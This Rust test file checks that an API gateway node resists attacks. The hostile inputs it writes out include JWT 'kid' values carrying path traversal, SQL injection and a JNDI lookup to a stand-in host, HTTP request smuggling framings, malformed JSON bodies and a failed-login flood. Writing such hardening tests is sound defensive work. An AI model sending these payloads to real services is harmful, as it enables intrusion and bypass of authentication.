//! Attacks on a node below and around the credential (issue 14, item 6), each against a
//! real `warden-cp` + `warden-dp`: forged JWT headers (`kid` traversal and injection, wrong
//! issuer, two signatures), oversize tokens, malformed HTTP framing over raw TCP (CR/LF in
//! header values, `Content-Length` with `Transfer-Encoding`, conflicting `Content-Length`),
//! hostile bodies (deep and oversize JSON, invalid UTF-8, a 1 MB `tools` array) and a
//! failed-login flood. Each gets a clear error — in the endpoint's JSON shape where the
//! request reached the API — no panic, no secret in any answer or log, nothing reaching
//! the provider that should not, and the node still serving afterwards.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use secrecy::ExposeSecret as _;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use warden_core::jwt::{Claims, KeyMaterial, SigningAlgorithm};
use warden_tests::cluster::{
    CANARY_ANTHROPIC_KEY, CANARY_UPSTREAM_KEY, CLAUDE_MODEL, MODEL, Options, TestCluster,
};

/// A cluster whose node does not throttle failed logins from one address before `limit`.
async fn cluster(limit: u32) -> TestCluster {
    TestCluster::start_with(
        1,
        Options {
            node_args: vec!["--failed-login-limit".into(), limit.to_string()],
            ..Options::default()
        },
    )
    .await
    .unwrap()
}

fn claims_of(token: &str) -> Claims {
    let payload = token.split('.').nth(1).unwrap();
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).unwrap()).unwrap()
}

fn kid_of(token: &str) -> String {
    let header = token.split('.').next().unwrap();
    let header: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(header).unwrap()).unwrap();
    header["kid"].as_str().unwrap().to_owned()
}

/// The control plane's private signing key `kid`, under another key id when `as_kid` is set.
async fn signing_key(c: &TestCluster, kid: &str, as_kid: &str) -> KeyMaterial {
    let private = c.own_secret(&format!("warden/jwt/{kid}")).await.unwrap();
    let raw = hex::decode(private.expose_secret()).unwrap();
    KeyMaterial::from_stored(as_kid.to_owned(), SigningAlgorithm::EdDSA, raw).unwrap()
}

/// The node of `c` still answers a normal request with 200.
async fn still_serving(c: &TestCluster, token: &str) {
    let r = c
        .chat(
            0,
            token,
            &TestCluster::chat_body(MODEL, "still there?", false),
        )
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "the node stopped serving");
}

/// No process panicked, and no secret the test knows is in `answers` or any log (the
/// control plane's first-start stdout, which hands the operator the admin credential, aside).
fn nothing_leaked(c: &TestCluster, answers: &[String], token: &str) {
    let mut files: Vec<_> = std::fs::read_dir(c.dir.path().join("logs"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            !p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("cp-stdout")
        })
        .collect();
    files.sort();
    let logs: String = files
        .iter()
        .map(|f| std::fs::read_to_string(f).unwrap_or_default())
        .collect();
    assert!(!logs.contains("panicked"), "a process panicked:\n{logs}");
    let secrets = [
        CANARY_UPSTREAM_KEY,
        CANARY_ANTHROPIC_KEY,
        token,
        c.admin_token.as_str(),
        c.node_token.as_str(),
    ];
    for secret in secrets {
        for answer in answers {
            assert!(
                !answer.contains(secret),
                "a secret is in an answer: {answer}"
            );
        }
        assert!(!logs.contains(secret), "a secret is in the logs");
    }
}

/// The OpenAI error of `body`: its `error.type` and `error.message`.
fn openai_error(body: &str) -> (String, String) {
    let v: Value = serde_json::from_str(body).unwrap_or_else(|_| panic!("not JSON: {body}"));
    let e = &v["error"];
    assert!(e["message"].is_string(), "not an OpenAI error: {body}");
    (
        e["type"].as_str().unwrap_or_default().to_owned(),
        e["message"].as_str().unwrap().to_owned(),
    )
}

/// Sends `bytes` on a new connection to the node (from `from`, a loopback address) and
/// reads until the node closes it or `limit` passes. `closed` tells which.
struct Raw {
    text: String,
    closed: bool,
}

impl Raw {
    fn status(&self) -> u16 {
        self.text
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0)
    }

    /// How many HTTP responses the node wrote.
    fn responses(&self) -> usize {
        self.text.matches("HTTP/1.1 ").count()
    }
}

async fn raw(c: &TestCluster, from: [u8; 4], bytes: Vec<u8>, limit: Duration) -> Raw {
    let socket = TcpSocket::new_v4().unwrap();
    socket.bind(std::net::SocketAddr::from((from, 0))).unwrap();
    let to = std::net::SocketAddr::from(([127, 0, 0, 1], c.nodes[0].port));
    let stream: TcpStream = socket.connect(to).await.unwrap();
    let (mut read, mut write) = stream.into_split();
    // The node may answer (and close) before it has read everything: write on the side.
    let writer = tokio::spawn(async move {
        let _ = write.write_all(&bytes).await;
        let _ = write.flush().await;
        write
    });
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    let closed = tokio::time::timeout(limit, async {
        loop {
            match read.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(n) => out.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await
    .is_ok();
    writer.abort();
    Raw {
        text: String::from_utf8_lossy(&out).into_owned(),
        closed,
    }
}

/// A POST to the chat endpoint with `headers` (each ending in `\r\n`) and `body`.
fn post(token: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: warden.invalid\r\nauthorization: Bearer {token}\r\ncontent-type: application/json\r\n{headers}\r\n"
    )
    .into_bytes();
    out.extend_from_slice(body);
    out
}

#[tokio::test]
async fn forged_jwt_headers_and_shapes_are_rejected_with_401() {
    let c = cluster(1000).await;
    let good = c.issue_token("victim", "*").unwrap();
    let claims = claims_of(&good);
    let kid = kid_of(&good);
    let real = signing_key(&c, &kid, &kid).await;
    let sign_as =
        |k: &KeyMaterial, claims: &Claims| k.sign(claims).unwrap().expose_secret().to_owned();

    let mut cases: Vec<(String, String)> = Vec::new();
    // The real key and real claims under a `kid` that is not the key's: traversal and
    // injection. A verifier that looked keys up by path, or trimmed, would accept these.
    for weird in [
        "../../etc/passwd".to_owned(),
        "..%2F..%2Fetc%2Fpasswd".to_owned(),
        format!("../{kid}"),
        format!("{kid}/../{kid}"),
        format!("{kid} "),
        format!("{kid}\u{0}"),
        format!("{kid}\"}}"),
        "k' OR '1'='1".to_owned(),
        "${jndi:ldap://x.invalid/a}".to_owned(),
        "k".repeat(16 * 1024),
    ] {
        let key = signing_key(&c, &kid, &weird).await;
        let shown: String = weird.chars().take(40).collect();
        cases.push((
            format!("kid {}", shown.escape_debug()),
            sign_as(&key, &claims),
        ));
    }
    // Wrong issuer, properly signed.
    let mut wrong_iss = claims.clone();
    wrong_iss.iss = "https://evil.invalid".into();
    cases.push(("wrong iss".into(), sign_as(&real, &wrong_iss)));
    // Two signatures: a compact token with an extra segment (the real signature twice, and
    // the real one after a forged one), and the JWS JSON serializations.
    let parts: Vec<&str> = good.split('.').collect();
    let imposter = KeyMaterial::generate(kid.clone(), SigningAlgorithm::EdDSA).unwrap();
    let forged = sign_as(&imposter, &claims);
    let forged_sig = forged.split('.').nth(2).unwrap();
    cases.push(("extra segment".into(), format!("{good}.{}", parts[2])));
    cases.push((
        "forged then real signature".into(),
        format!("{}.{}.{forged_sig}.{}", parts[0], parts[1], parts[2]),
    ));
    cases.push(("trailing dot".into(), format!("{good}.")));
    let general = json!({
        "payload": parts[1],
        "signatures": [
            {"protected": parts[0], "signature": forged_sig},
            {"protected": parts[0], "signature": parts[2]},
        ],
    });
    cases.push(("JWS general JSON".into(), general.to_string()));
    let flattened = json!({"payload": parts[1], "protected": parts[0], "signature": parts[2]});
    cases.push(("JWS flattened JSON".into(), flattened.to_string()));
    cases.push((
        "JWS general JSON, base64url".into(),
        URL_SAFE_NO_PAD.encode(general.to_string()),
    ));

    // The control case: the real key and claims under the real kid are accepted, so each
    // rejection below is the attack's.
    let mut fresh = claims.clone();
    fresh.jti = "control".into();
    let r = c
        .chat(
            0,
            &sign_as(&real, &fresh),
            &TestCluster::chat_body(MODEL, "x", false),
        )
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "control case failed");

    let mut answers = Vec::new();
    for (name, token) in &cases {
        let r = c
            .http
            .post(c.nodes[0].url("/v1/chat/completions"))
            .header("authorization", format!("Bearer {token}"))
            .json(&TestCluster::chat_body(MODEL, "x", false))
            .send()
            .await;
        let r = match r {
            Ok(r) => r,
            // A NUL is not a valid header value: the client refuses to send it.
            Err(e) if token.contains('\0') => {
                assert!(e.is_builder(), "{name}: {e}");
                continue;
            }
            Err(e) => panic!("{name}: {e}"),
        };
        assert_eq!(r.status(), 401, "{name} was not rejected");
        let body = r.text().await.unwrap();
        assert_eq!(
            openai_error(&body).0,
            "invalid_request_error",
            "{name}: {body}"
        );
        answers.push(body);
    }
    // NUL in the header value, sent raw: refused by the HTTP layer or as a bad token.
    let token = &cases[5].1;
    let nul_header = post(token, "content-length: 2\r\n", b"{}");
    let nul = raw(&c, [127, 0, 0, 1], nul_header, Duration::from_secs(5)).await;
    assert!(
        matches!(nul.status(), 400 | 401),
        "NUL in the token: {}",
        nul.text
    );
    for a in &answers {
        assert_eq!(a, &answers[0], "rejections differ");
    }
    assert_eq!(
        c.mock.requests().len(),
        1,
        "only the control case may reach the provider"
    );
    still_serving(&c, &good).await;
    nothing_leaked(&c, &answers, &good);
    let logs = c.logs();
    for reason in ["jwt_unknown_kid", "jwt_wrong_iss_or_aud", "jwt_malformed"] {
        assert!(logs.contains(reason), "no log line with {reason}");
    }
}

#[tokio::test]
async fn oversize_tokens_get_401_or_431_and_the_node_keeps_serving() {
    let c = cluster(1000).await;
    let good = c.issue_token("victim", "*").unwrap();
    let mut answers = Vec::new();
    // 64 KB: within the HTTP layer's header buffer, so the API answers — 401 in its shape.
    let token = format!("eyJ{}", "A".repeat(64 * 1024));
    let r = c
        .http
        .post(c.nodes[0].url("/v1/chat/completions"))
        .bearer_auth(&token)
        .json(&TestCluster::chat_body(MODEL, "x", false))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401, "64 KB token");
    let body = r.text().await.unwrap();
    assert!(openai_error(&body).1.contains("credential"), "{body}");
    assert!(
        body.len() < 1024,
        "the answer echoes the token: {} bytes",
        body.len()
    );
    answers.push(body);
    // 1 MB: past the HTTP layer's header buffer (hyper, about 400 KB): 431 from the listener
    // before any API code runs, with no body, and the connection closed. The node may close
    // while the client is still writing, in which case the client sees the connection
    // reset instead of the 431; either way nothing is processed.
    let token = format!("eyJ{}", "A".repeat(1024 * 1024));
    let big = raw(
        &c,
        [127, 0, 0, 1],
        post(&token, "content-length: 2\r\n", b"{}"),
        Duration::from_secs(10),
    )
    .await;
    assert!(big.closed, "the connection stayed open");
    assert!(
        big.text.is_empty() || big.status() == 431,
        "1 MB token: {:.200}",
        big.text
    );
    answers.push(big.text);
    assert!(c.mock.requests().is_empty());
    still_serving(&c, &good).await;
    nothing_leaked(&c, &answers, &good);
}

#[tokio::test]
async fn malformed_http_framing_is_refused_and_nothing_is_smuggled() {
    let c = cluster(1000).await;
    let good = c.issue_token("victim", "*").unwrap();
    let body = serde_json::to_vec(&TestCluster::chat_body(MODEL, "x", false)).unwrap();
    // A complete, authorised second request hidden behind the first one's body: if the node
    // framed the body differently from a front end (Content-Length against chunked) and kept
    // the connection open, this would be served as a request of its own.
    let smuggled_body =
        serde_json::to_vec(&TestCluster::chat_body(MODEL, "smuggled", false)).unwrap();
    let smuggled = String::from_utf8(post(
        &good,
        &format!("content-length: {}\r\n", smuggled_body.len()),
        &smuggled_body,
    ))
    .unwrap();
    let te_body = serde_json::to_vec(&TestCluster::chat_body(MODEL, "te-framing", false)).unwrap();
    let chunked = format!(
        "{:x}\r\n{}\r\n0\r\n\r\n",
        te_body.len(),
        String::from_utf8(te_body).unwrap()
    );
    // Content-Length and Transfer-Encoding together: hyper frames by chunked (it drops the
    // Content-Length, as RFC 9112 says), answers once and closes the connection, so what
    // follows the last chunk is never read as a request — whether the length covers it
    // (CL.TE) or stops short of the chunks (TE.CL).
    for (name, length) in [("CL.TE", chunked.len() + smuggled.len()), ("TE.CL", 4)] {
        let request = post(
            &good,
            &format!("content-length: {length}\r\ntransfer-encoding: chunked\r\n"),
            format!("{chunked}{smuggled}").as_bytes(),
        );
        let a = raw(&c, [127, 0, 0, 1], request, Duration::from_secs(5)).await;
        assert!(matches!(a.status(), 200 | 400), "{name}: {:.300}", a.text);
        assert_eq!(a.responses(), 1, "{name}: more than one answer: {}", a.text);
        assert!(a.closed, "{name}: the connection stayed open");
    }
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "bare CR in a header value",
            post(&good, &format!("x-note: a\rb\r\ncontent-length: {}\r\n", body.len()), &body),
        ),
        (
            "obsolete line folding",
            post(&good, &format!("x-note: a\r\n folded\r\ncontent-length: {}\r\n", body.len()), &body),
        ),
        (
            "CR LF inside the authorization value",
            format!(
                "POST /v1/chat/completions HTTP/1.1\r\nhost: warden.invalid\r\nauthorization: Bearer \r\n{good}\r\ncontent-length: {}\r\n\r\n",
                body.len()
            )
            .into_bytes()
            .into_iter()
            .chain(body.iter().copied())
            .collect(),
        ),
        (
            "conflicting Content-Length",
            post(
                &good,
                &format!("content-length: {}\r\ncontent-length: 2\r\n", body.len()),
                &[body.as_slice(), smuggled.as_bytes()].concat(),
            ),
        ),
        (
            "Content-Length list",
            post(
                &good,
                &format!("content-length: {}, 2\r\n", body.len()),
                &[body.as_slice(), smuggled.as_bytes()].concat(),
            ),
        ),
        (
            "Transfer-Encoding not chunked",
            post(
                &good,
                "transfer-encoding: gzip, identity\r\n",
                smuggled.as_bytes(),
            ),
        ),
        (
            "obfuscated Transfer-Encoding",
            post(
                &good,
                &format!("transfer-encoding : chunked\r\ncontent-length: {}\r\n", body.len()),
                &[body.as_slice(), smuggled.as_bytes()].concat(),
            ),
        ),
    ];
    let mut answers = Vec::new();
    for (name, bytes) in cases {
        let a = raw(&c, [127, 0, 0, 1], bytes, Duration::from_secs(5)).await;
        assert_eq!(a.status(), 400, "{name}: {:.300}", a.text);
        assert_eq!(a.responses(), 1, "{name}: more than one answer: {}", a.text);
        assert!(a.closed, "{name}: the connection stayed open");
        answers.push(a.text);
    }
    let forwarded = c.mock.requests();
    assert!(
        forwarded
            .iter()
            .all(|r| !r.body.to_string().contains("smuggled")),
        "a smuggled request reached the provider"
    );
    assert!(
        forwarded.len() <= 2,
        "a refused request reached the provider: {forwarded:?}"
    );
    still_serving(&c, &good).await;
    nothing_leaked(&c, &answers, &good);
}

#[tokio::test]
async fn hostile_bodies_get_400_or_413_in_the_endpoints_shape() {
    let c = TestCluster::start_with(
        1,
        Options {
            node_args: vec![
                "--max-body-bytes".into(),
                (4 * 1024 * 1024).to_string(),
                "--failed-login-limit".into(),
                "1000".into(),
            ],
            ..Options::default()
        },
    )
    .await
    .unwrap();
    let good = c.issue_token("victim", "*").unwrap();
    let chat = c.nodes[0].url("/v1/chat/completions");
    let messages = c.nodes[0].url("/v1/messages");
    let nested = format!(
        "{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":{}{}}}]}}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let oversize = json!({
        "model": MODEL,
        "messages": [{"role": "user", "content": "x".repeat(5 * 1024 * 1024)}],
    })
    .to_string();
    let bad_utf8_body = [
        format!("{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":\"")
            .as_bytes(),
        b"\xff\xfe\xc3(",
        b"\"}]}",
    ]
    .concat();
    let bad_utf8_model = [
        b"{\"model\":\"gpt-\xc0\xaf\",\"messages\":[{\"role\":\"user\",\"content\":\"x\"}]}"
            .as_slice(),
    ]
    .concat();
    let lone_surrogate = format!(
        "{{\"model\":\"{MODEL}\\ud800\",\"messages\":[{{\"role\":\"user\",\"content\":\"x\"}}]}}"
    );
    let cases: Vec<(&str, Vec<u8>, u16)> = vec![
        ("100,000 nested arrays", nested.into_bytes(), 400),
        ("invalid UTF-8 in the content", bad_utf8_body, 400),
        ("invalid UTF-8 in the model", bad_utf8_model, 400),
        (
            "lone surrogate in the model",
            lone_surrogate.into_bytes(),
            400,
        ),
    ];
    let mut answers = Vec::new();
    for (url, anthropic) in [(&chat, false), (&messages, true)] {
        for (name, body, status) in &cases {
            let r = c
                .http
                .post(url.as_str())
                .bearer_auth(&good)
                .header("content-type", "application/json")
                .body(body.clone())
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), *status, "{name} at {url}");
            let text = r.text().await.unwrap();
            let v: Value = serde_json::from_str(&text).unwrap_or_else(|_| panic!("{name}: {text}"));
            if anthropic {
                assert_eq!(v["type"], "error", "{name}: not an Anthropic error: {text}");
                assert!(v["error"]["message"].is_string(), "{name}: {text}");
            } else {
                openai_error(&text);
            }
            assert!(text.len() < 2048, "{name}: the answer echoes the body");
            answers.push(text);
        }
    }
    // Over --max-body-bytes: 413 in the endpoint's shape, from the announced length, before
    // the body is read (raw TCP: the node answers while the client is still writing).
    for (path, anthropic) in [("/v1/chat/completions", false), ("/v1/messages", true)] {
        let mut request = format!(
            "POST {path} HTTP/1.1\r\nhost: warden.invalid\r\nauthorization: Bearer {good}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
            oversize.len()
        )
        .into_bytes();
        request.extend_from_slice(oversize.as_bytes());
        let a = raw(&c, [127, 0, 0, 1], request, Duration::from_secs(10)).await;
        assert_eq!(a.status(), 413, "oversize body at {path}: {:.300}", a.text);
        let body = a.text.split_once("\r\n\r\n").map_or("", |(_, b)| b);
        if anthropic {
            assert!(body.contains("\"type\":\"error\""), "{body}");
        } else {
            assert!(body.contains("\"error\":{"), "{body}");
        }
        answers.push(a.text);
    }
    assert!(
        c.mock.requests().is_empty(),
        "a refused body reached the provider"
    );

    // A 1 MB `tools` array (valid tools) is no attack on the node: forwarded as it is to an
    // OpenAI provider and translated for an Anthropic one, each in bounded time.
    let tools: Vec<Value> = (0..4000)
        .map(|i| {
            json!({"type": "function", "function": {
                "name": format!("tool_{i}"),
                "description": "d".repeat(200),
                "parameters": {"type": "object", "properties": {"a": {"type": "string"}}},
            }})
        })
        .collect();
    for model in [MODEL, CLAUDE_MODEL] {
        let mut body = TestCluster::chat_body(model, "x", false);
        body["tools"] = Value::Array(tools.clone());
        assert!(body.to_string().len() > 1024 * 1024);
        let started = std::time::Instant::now();
        let r = c.chat(0, &good, &body).await.unwrap();
        assert_eq!(r.status(), 200, "1 MB tools to {model}");
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "1 MB tools took {:?}",
            started.elapsed()
        );
        answers.push(r.text().await.unwrap());
    }
    let forwarded = c.mock.requests();
    assert_eq!(forwarded.len(), 2);
    // A 1 MB `tools` array that is not tools: refused in the endpoint's shape when it must be
    // translated, forwarded untouched otherwise (the provider judges its own format).
    let mut junk = TestCluster::chat_body(CLAUDE_MODEL, "x", false);
    junk["tools"] = Value::Array((0..100_000).map(|i| json!(i)).collect());
    let r = c.chat(0, &good, &junk).await.unwrap();
    assert_eq!(r.status(), 400, "junk tools to an Anthropic provider");
    let text = r.text().await.unwrap();
    openai_error(&text);
    answers.push(text);
    still_serving(&c, &good).await;
    nothing_leaked(&c, &answers, &good);
}

#[tokio::test]
async fn a_failed_login_flood_is_throttled_and_other_addresses_keep_working() {
    let c = TestCluster::start(1).await.unwrap();
    let good = c.issue_token("victim", "*").unwrap();
    let body = serde_json::to_vec(&TestCluster::chat_body(MODEL, "x", false)).unwrap();
    let mut statuses = Vec::new();
    let mut answers = Vec::new();
    // One address presents 80 wrong credentials, each of another shape.
    for i in 0..80 {
        let wrong = match i % 4 {
            0 => format!("wk_{}", "A".repeat(48)),
            1 => format!("eyJ{i}.x.y"),
            2 => format!("{good}{i}"),
            _ => format!("sk-{i}"),
        };
        let a = raw(
            &c,
            [127, 0, 0, 77],
            post(
                &wrong,
                &format!("content-length: {}\r\nconnection: close\r\n", body.len()),
                &body,
            ),
            Duration::from_secs(5),
        )
        .await;
        statuses.push(a.status());
        answers.push(a.text);
    }
    // 401 first; past the failed-login limit 429 (or, where addresses are blocked after
    // repeated failures, 403 `ip_blocked`), never anything else.
    assert!(
        statuses.iter().all(|s| matches!(s, 401 | 429 | 403)),
        "{statuses:?}"
    );
    assert_eq!(statuses[0], 401);
    let first_throttled = statuses
        .iter()
        .position(|s| *s != 401)
        .unwrap_or_else(|| panic!("80 failures were never throttled: {statuses:?}"));
    assert!(
        statuses[first_throttled..].iter().all(|s| *s != 401),
        "a throttled address was let through to the credential check again: {statuses:?}"
    );
    for a in answers.iter().filter(|a| !a.contains(" 401 ")) {
        let body = a.split_once("\r\n\r\n").map_or("", |(_, b)| b);
        let (_, message) = openai_error(body);
        assert!(!message.is_empty());
    }
    // The good credential from the flooding address is refused while throttled too.
    let a = raw(
        &c,
        [127, 0, 0, 77],
        post(
            &good,
            &format!("content-length: {}\r\nconnection: close\r\n", body.len()),
            &body,
        ),
        Duration::from_secs(5),
    )
    .await;
    assert!(matches!(a.status(), 429 | 403), "{}", a.text);
    answers.push(a.text);
    // Another address is unaffected.
    let a = raw(
        &c,
        [127, 0, 0, 78],
        post(
            &good,
            &format!("content-length: {}\r\nconnection: close\r\n", body.len()),
            &body,
        ),
        Duration::from_secs(5),
    )
    .await;
    assert_eq!(a.status(), 200, "{}", a.text);
    assert_eq!(
        c.mock.requests().len(),
        1,
        "only the good request from 127.0.0.78"
    );
    still_serving(&c, &good).await;
    nothing_leaked(&c, &answers, &good);
}
